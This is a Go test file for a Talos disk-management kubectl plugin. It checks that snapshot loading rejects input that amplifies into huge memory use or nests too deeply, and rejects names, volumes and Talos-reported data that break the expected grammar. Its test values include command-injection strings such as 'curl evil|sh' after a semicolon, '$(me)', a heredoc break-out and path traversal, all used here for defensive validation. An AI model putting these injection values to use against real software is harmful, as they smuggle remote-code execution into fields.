// SPDX-License-Identifier: Apache-2.0

package snapshot_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/talosdisk/kubectl-talosdisk/pkg/disk"
	"github.com/talosdisk/kubectl-talosdisk/pkg/machineconfig"
	"github.com/talosdisk/kubectl-talosdisk/pkg/provisioner"
	"github.com/talosdisk/kubectl-talosdisk/pkg/snapshot"
)

// A file of 6 MB does not become gigabytes.
func TestLoadRefusesWhatAmplifies(t *testing.T) {
	for name, text := range map[string]string{
		"empty nodes": `{"version":1,"nodes":[` + strings.Repeat("{},", 2_000_000) + `{}]}`,
		"no nodes":    `{"version":1,"nodes":[` + strings.Repeat("null,", 1_200_000) + `null]}`,
		"deep":        `{"version":1,"nodes":` + strings.Repeat("[", 100_000),
		"many nodes":  `{"version":1,"nodes":[` + strings.Repeat(`{"name":"w-1"},`, 10_001) + `{}]}`,
	} {
		if s, err := snapshot.Load(strings.NewReader(text)); err == nil || s != nil {
			t.Errorf("%s: was loaded", name)
		}
	}
	endless := bytes.Repeat([]byte(" "), 1<<20)
	if _, err := snapshot.Load(&repeated{endless}); err == nil || !strings.Contains(err.Error(), "larger than") {
		t.Errorf("without an end: %v", err)
	}
}

type repeated struct{ what []byte }

func (r *repeated) Read(p []byte) (int, error) { return copy(p, r.what), nil }

// In a file, too, a node that says too much is a node of which nothing is known; the others are as they were.
func TestLoadHoldsNodesToTheLimits(t *testing.T) {
	view := func(disks ...disk.Disk) snapshot.Section[snapshot.PodView] {
		return snapshot.Read(snapshot.PodView{Disks: disks})
	}
	s := &snapshot.Snapshot{Nodes: []snapshot.Node{
		{Name: "w-1", View: view(make([]disk.Disk, snapshot.MaxDisks+1)...)},
		{Name: "w-2", View: view(disk.Disk{Name: "sda;curl evil|sh"})},
		{Name: "w-3", View: view(disk.Disk{Name: "sda", ByID: []string{`wwn-0x5\x20`}})},
	}}
	var file bytes.Buffer
	if err := snapshot.Save(&file, s); err != nil {
		t.Fatal(err)
	}
	got, err := snapshot.Load(&file)
	if err != nil {
		t.Fatal(err)
	}
	for i, known := range []bool{false, false, true} {
		if n := got.Nodes[i]; (n.View.Value != nil) != known || !known && n.View.Problem.Message == "" {
			t.Errorf("%s: %v, %q", n.Name, n.View.Value != nil, n.View.Problem)
		}
	}
}

// What the configuration calls a volume, and what it chooses, has the names that Talos and the kernel take.
func TestLoadHoldsSelectionsToTheGrammar(t *testing.T) {
	long := strings.Repeat("x", 35)
	for what, c := range map[string]struct {
		selection snapshot.Selection
		known     bool
	}{
		"a user volume": {
			selection: snapshot.Selection{
				VolumeSelector: machineconfig.VolumeSelector{Kind: "UserVolumeConfig", Name: "data"},
				Disks:          []string{"vdb"},
			},
			known: true,
		},
		"a label longer than a partition's": {
			selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "SwapVolumeConfig", Name: long}},
		},
		"an existing volume": {
			selection: snapshot.Selection{
				VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: long},
				Volumes:        []string{"vdb1", "dm-0"},
			},
			known: true,
		},
		"a name that is no directory": {
			selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: "a/b"}},
		},
		"no disk": {
			selection: snapshot.Selection{
				VolumeSelector: machineconfig.VolumeSelector{Kind: "UserVolumeConfig", Name: "data"},
				Disks:          []string{"vdb;curl evil|sh"},
			},
		},
		"no volume": {
			selection: snapshot.Selection{
				VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: "data"},
				Volumes:        []string{"vdb1;curl evil|sh"},
			},
		},
	} {
		s := &snapshot.Snapshot{Nodes: []snapshot.Node{{Name: "w-1", Selections: snapshot.Read([]snapshot.Selection{c.selection})}}}
		var file bytes.Buffer
		if err := snapshot.Save(&file, s); err != nil {
			t.Fatal(err)
		}
		got, err := snapshot.Load(&file)
		if err != nil {
			t.Fatal(err)
		}
		if n := got.Nodes[0]; (n.Selections.Value != nil) != c.known || !c.known && n.Selections.Problem.Message == "" {
			t.Errorf("%s: %+v", what, n.Selections)
		}
	}
}

func TestLoadRefusesNamesOutsideTheirGrammar(t *testing.T) {
	for name, s := range map[string]snapshot.Snapshot{
		"node":                {Nodes: []snapshot.Node{{Name: "w1;curl evil|sh"}}},
		"volume":              {Volumes: []snapshot.Volume{{Name: "$(me)"}}},
		"class":               {Install: provisioner.Install{Classes: []provisioner.Class{{Name: "z\nEOF\ncurl evil|sh\ncat <<'EOF'"}}}},
		"hostDir":             {Install: provisioner.Install{Classes: []provisioner.Class{{Name: "a", HostDir: "/a\x1b[31m"}}}},
		"claim":               {Claims: snapshot.Read([]snapshot.Claim{{ClaimRef: snapshot.ClaimRef{Namespace: "a", Name: "b;c"}}})},
		"pod":                 {Pods: snapshot.Read([]snapshot.UserPod{{Namespace: "a", Name: "b`c`"}})},
		"a volume's node":     {Volumes: []snapshot.Volume{{Name: "v", Node: "$(me)"}}},
		"a volume's path":     {Volumes: []snapshot.Volume{{Name: "v", Path: "/a\nb"}}},
		"a volume's class":    {Volumes: []snapshot.Volume{{Name: "v", Class: "a b"}}},
		"another namespace":   {Others: []snapshot.Installation{{Install: provisioner.Install{Namespace: "a b"}}}},
		"another class":       {Others: []snapshot.Installation{{Install: provisioner.Install{Classes: []provisioner.Class{{Name: "z;x"}}}}}},
		"a provisioner's pod": {Nodes: []snapshot.Node{{Name: "w-1", Pod: snapshot.Read(snapshot.Pod{Name: "p;x"})}}},
		"namespace":           {Install: provisioner.Install{Namespace: "a b"}},
	} {
		var file bytes.Buffer
		if err := snapshot.Save(&file, &s); err != nil {
			t.Fatal(err)
		}
		if _, err := snapshot.Load(&file); err == nil {
			t.Errorf("%s: was loaded", name)
		}
	}
}

// What Talos answers is a stranger's, too: the part that has what cannot be is none.
func TestTalosIsHeldToTheGrammar(t *testing.T) {
	const evil = "vdb;curl evil|sh"
	for name, change := range map[string]func(*snapshot.Talos){
		"a disk":            func(n *snapshot.Talos) { (*n.Disks.Value)[0].Name = evil },
		"a member":          func(n *snapshot.Talos) { (*n.Disks.Value)[0].Secondaries = []string{evil} },
		"a name of a disk":  func(n *snapshot.Talos) { (*n.Disks.Value)[0].Symlinks = []string{"/dev/disk/by-id/$(me)"} },
		"too many disks":    func(n *snapshot.Talos) { n.Disks = snapshot.Read(make([]snapshot.TalosDisk, snapshot.MaxDisks+1)) },
		"the system disk":   func(n *snapshot.Talos) { n.System = snapshot.Read("--x") },
		"a partition":       func(n *snapshot.Talos) { (*n.Devices.Value)[0].Name = evil },
		"a parent":          func(n *snapshot.Talos) { (*n.Devices.Value)[0].Parent = "../x" },
		"a volume":          func(n *snapshot.Talos) { (*n.Volumes.Value)[0].ID = "u-a b" },
		"a place":           func(n *snapshot.Talos) { (*n.Volumes.Value)[0].Location = "/dev/\x1b[31m" },
		"a mount":           func(n *snapshot.Talos) { (*n.Mounts.Value)[0].Target = "/a\nb" },
		"a link":            func(n *snapshot.Talos) { n.Links = snapshot.Read(map[string][]string{evil: nil}) },
		"a page of Talos's": func(n *snapshot.Talos) { n.Diagnostics = snapshot.Read([]snapshot.TalosDiagnostic{{ID: "../evil"}}) },
	} {
		reported := snapshot.Talos{
			Disks: snapshot.Read([]snapshot.TalosDisk{{
				Name:        "nvme0n1",
				Symlinks:    []string{`/dev/disk/by-id/nvme-A_1\x2f`, "/dev/disk/by-path/pci-0000:00:04.0"},
				Secondaries: []string{"sda"},
			}}),
			System: snapshot.Read("vda"),
			Devices: snapshot.Read([]snapshot.TalosDevice{{Name: "nvme0n1p1", Parent: "nvme0n1", PartitionLabel: "Linux filesystem"},
				{Name: "dm-0"}}),
			Volumes: snapshot.Read([]snapshot.TalosVolume{{ID: "/dev/disk/by-id/ata-x-1"},
				{ID: "u-data", Location: "/dev/nvme0n1p1", MountLocation: "/dev/mapper/luks2-u-data"}}),
			Mounts:      snapshot.Read([]snapshot.TalosMount{{Source: "/dev/vda6", Target: "/var/with a blank"}}),
			Links:       snapshot.Read(map[string][]string{"vda": {"/dev/disk/by-diskseq/1"}}),
			Diagnostics: snapshot.Read([]snapshot.TalosDiagnostic{{ID: "address-overlap"}}),
		}
		lost := func() (parts int) {
			for _, why := range []string{reported.Disks.Problem.Message, reported.System.Problem.Message, reported.Devices.Problem.Message,
				reported.Volumes.Problem.Message, reported.Mounts.Problem.Message, reported.Links.Problem.Message,
				reported.Diagnostics.Problem.Message} {
				if strings.HasPrefix(why, "what Talos answers cannot be: ") {
					parts++
				}
			}
			return parts
		}
		if reported.Refuse(); lost() != 0 {
			t.Errorf("what is right is refused: %+v", reported)
		}
		change(&reported)
		if reported.Refuse(); lost() != 1 {
			t.Errorf("%s: %d parts are refused", name, lost())
		}
		n := snapshot.Node{Name: "w-1", Talos: snapshot.Read(reported)}
		var file bytes.Buffer
		if err := snapshot.Save(&file, &snapshot.Snapshot{Nodes: []snapshot.Node{n}}); err != nil {
			t.Fatal(err)
		}
		if _, err := snapshot.Load(&file); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}
